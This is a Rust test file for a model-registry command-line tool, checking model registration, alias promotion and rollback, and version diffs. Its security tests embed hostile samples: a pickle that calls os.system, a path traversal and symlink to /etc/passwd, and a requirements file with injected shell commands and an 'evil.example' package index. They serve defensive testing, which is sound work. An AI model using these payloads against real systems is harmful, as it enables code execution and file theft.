//! `mls model register`, `export`, `promote` and `rollback`, and what `show` and `diff` tell of versions.

use std::fs;

use crate::support::Sandbox;

/// A safetensors file of one tensor `w` of so many floats, all of one byte.
fn tensors(count: usize, byte: u8) -> Vec<u8> {
    let size = count * 4;
    let header =
        format!(r#"{{"w":{{"dtype":"F32","shape":[{count}],"data_offsets":[0,{size}]}}}}"#);
    let mut bytes = (header.len() as u64).to_le_bytes().to_vec();
    bytes.extend_from_slice(header.as_bytes());
    bytes.extend(std::iter::repeat_n(byte, size));
    bytes
}

const MLMODEL: &str = "flavors:\n  python_function:\n    data: m.bin\n    loader_module: mlflow.onnx\nsignature:\n  inputs: '[{\"type\": \"double\", \"name\": \"x\"}]'\n";

#[test]
fn a_file_is_registered_once_and_again_when_asked() {
    let sandbox = Sandbox::with_store();
    sandbox.write("w.bin", tensors(4, 1));
    insta::assert_snapshot!(sandbox.mls(["model", "register", "net", "w.bin", "--alias", "new", "-t", "a=b"]), @"
    exit 0
    --- stdout
    net@v1
    --- stderr
    Registered 1 file: safetensors.
    ");
    insta::assert_snapshot!(sandbox.mls(["model", "register", "net", "w.bin"]), @"
    exit 0
    --- stdout
    net@v1
    --- stderr
    `net@v1` has this content already.
    ");
    assert_eq!(sandbox.ok(["model", "register", "net", "w.bin", "--again"]), "net@v2");
    let model = &sandbox.json(["models"])[0];
    assert_eq!(model["versions"][0]["flavors"], serde_json::json!(["safetensors"]));
    assert_eq!(model["versions"][0]["tags"]["a"], "b");
    assert_eq!(model["aliases"]["new"], 1);
}

#[test]
fn an_alias_is_promoted_and_rolled_back_step_by_step_and_undone() {
    let sandbox = Sandbox::with_store();
    for byte in 1..=3 {
        sandbox.write("w.bin", tensors(4, byte));
        sandbox.ok(["model", "register", "net", "w.bin"]);
        sandbox.ok(["model", "promote", &format!("net@v{byte}"), "best"]);
    }
    insta::assert_snapshot!(sandbox.mls(["model", "rollback", "net@best"]), @"
    exit 0
    --- stderr
    `net@best` means version 2, and no more version 3.
    ");
    sandbox.ok(["model", "rollback", "net@best"]);
    assert_eq!(sandbox.json(["models"])[0]["aliases"]["best"], 1);
    insta::assert_snapshot!(sandbox.mls(["model", "rollback", "net@best"]), @"
    exit 5
    --- stderr
    error: alias `best` of model `net` has meant no other version before
    hint: `mls model promote` moves it to any version.
    ");
    sandbox.ok(["undo"]);
    assert_eq!(sandbox.json(["models"])[0]["aliases"]["best"], 2);
    assert!(sandbox.ok(["log"]).contains("model rollback net@best"));
}

#[test]
fn two_versions_are_compared_tensor_by_tensor() {
    let sandbox = Sandbox::with_store();
    let mut bytes = tensors(1 << 20, 1);
    fs::create_dir(sandbox.path().join("m")).unwrap();
    sandbox.write("m/requirements.txt", "numpy==1\nonnx\n");
    sandbox.write("m/w.bin", &bytes);
    sandbox.ok(["model", "register", "net", "m"]);
    let end = bytes.len();
    bytes[end - 3] = 9;
    sandbox.write("m/w.bin", &bytes);
    sandbox.write("m/requirements.txt", "numpy==2\nonnx\n");
    sandbox.ok(["model", "register", "net", "m"]);
    let found = sandbox.json(["diff", "net@v1", "net@v2"]);
    assert_eq!(found["tensors"][0]["bytes"], 1);
    assert_eq!(found["tensors"][0]["name"], "w");
    let added = serde_json::json!(["requirements.txt: numpy==2"]);
    assert_eq!(found["requirements"]["added"], added);
    assert_eq!(found["files"][0]["path"], "w.bin");
    assert_eq!(sandbox.mls(["diff", "net@v1", "net@v2", "--exit-code"]).code(), 1);
    assert_eq!(sandbox.mls(["diff", "net@v1", "net@v1", "--exit-code"]).code(), 0);
}

#[test]
fn m01_a_pickle_is_registered_with_a_warning_and_not_run() {
    let sandbox = Sandbox::with_store();
    sandbox.write("model.onnx", b"\x80\x02cos\nsystem\nX\x0c\0\0\0touch canary\x85R.");
    insta::assert_snapshot!(sandbox.mls(["model", "register", "bad", "model.onnx"]), @"
    exit 0
    --- stdout
    bad@v1
    --- stderr
    Registered 1 file: pickle.
    warning: it would import `os.system`, which is not known to be safe; nothing was run
    ");
    sandbox.ok(["model", "export", "bad@v1", "out"]);
    assert!(sandbox.ok(["show", "bad@v1"]).contains("dangerous"));
    assert!(!sandbox.path().join("canary").exists());
}

#[test]
fn m03_a_model_that_leads_out_of_its_folder_is_refused() {
    let sandbox = Sandbox::with_store();
    sandbox.write("m/MLmodel", MLMODEL.replace("m.bin", "../../etc/passwd"));
    let said = sandbox.mls(["model", "register", "bad", "m"]);
    assert_eq!(said.code(), 6, "{said}");
    sandbox.write("m/MLmodel", MLMODEL);
    std::os::unix::fs::symlink("/etc/passwd", sandbox.path().join("m/m.bin")).unwrap();
    let said = sandbox.mls(["model", "register", "bad", "m"]);
    assert_eq!(said.code(), 12, "{said}");
    assert_eq!(sandbox.json(["models"]), serde_json::json!([]));
}

#[test]
fn m04_what_a_model_needs_is_kept_and_never_run() {
    let sandbox = Sandbox::with_store();
    let needs = "numpy; touch canary\n-e git+https://example.com/x\n--index-url http://evil.example\n$(touch canary)\n";
    sandbox.write("m/MLmodel", MLMODEL);
    sandbox.write("m/m.bin", "x");
    sandbox.write("m/requirements.txt", needs);
    sandbox.ok(["model", "register", "m", "m"]);
    sandbox.ok(["model", "export", "m", "out"]);
    assert_eq!(sandbox.read("out/requirements.txt"), needs.as_bytes());
    assert!(!sandbox.path().join("canary").exists());
}

#[test]
fn m10_content_that_breaks_its_format_is_refused_and_nothing_is_registered() {
    let sandbox = Sandbox::with_store();
    let mut bytes = tensors(4, 1);
    bytes.pop();
    sandbox.write("w.bin", bytes);
    insta::assert_snapshot!(sandbox.mls(["model", "register", "net", "w.bin"]), @"
    exit 6
    --- stderr
    error: the file is not what it seems to be: its tensors do not fill it
    ");
    assert_eq!(sandbox.json(["models"]), serde_json::json!([]));
}

#[test]
fn a_signature_is_taken_from_a_file_and_from_the_model() {
    let sandbox = Sandbox::with_store();
    sandbox.write("w.bin", tensors(4, 1));
    sandbox.write("s.yaml", "inputs:\n- {name: x, type: double}\noutputs:\n- {type: long}\n");
    sandbox.ok(["model", "register", "net", "w.bin", "--signature", "s.yaml"]);
    let shown = sandbox.json(["show", "net"]);
    assert_eq!(shown["inspection"]["signature"]["outputs"][0]["type"], "long");
    sandbox.write("s.yaml", "inputs:\n- {name: x, type: quux}\n");
    let said = sandbox.mls(["model", "register", "net", "w.bin", "--signature", "s.yaml"]);
    assert_eq!(said.code(), 2, "{said}");
    sandbox.write("m/MLmodel", MLMODEL);
    sandbox.write("m/m.bin", "x");
    sandbox.ok(["model", "register", "folder", "m"]);
    let shown = sandbox.json(["show", "folder"]);
    assert_eq!(shown["inspection"]["signature"]["inputs"][0]["name"], "x");
    assert_eq!(sandbox.mls(["model", "register", "x", "nowhere"]).code(), 5);
}
